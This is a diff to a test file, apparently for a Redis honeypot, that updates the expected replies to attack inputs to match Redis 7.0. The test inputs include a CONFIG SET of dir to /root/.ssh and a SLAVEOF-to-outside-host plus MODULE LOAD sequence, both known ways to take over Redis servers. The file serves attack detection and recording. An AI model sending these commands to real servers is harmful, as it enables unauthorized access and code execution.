@@ -235,8 +235,11 @@ def test_redis_attacks_are_answered_and_recorded(dialogues: dict[str, object]) -
         b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n",
         b"SLAVEOF 203.0.113.5 8886\r\nMODULE LOAD /tmp/exp.so\r\nSET k v\r\nGET k\r\n",
     )
-    assert t.output == (
-        b"+OK\r\n+OK\r\n-ERR Error loading the extension. Please check the server logs.\r\n"
+    assert t.output == (  # as Redis 7.0 answers: dir is a protected config, MODULE disabled
+        b"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected "
+        b"config\r\n+OK\r\n-ERR MODULE command not allowed. If the enable-module-command "
+        b'option is set to "local", you can run it from a local connection, otherwise you need '
+        b"to set this option in the configuration file, and then restart the server.\r\n"
         b"+OK\r\n$1\r\nv\r\n"
     )
     assert t.detail["config_set"] == {"dir": "/root/.ssh"}
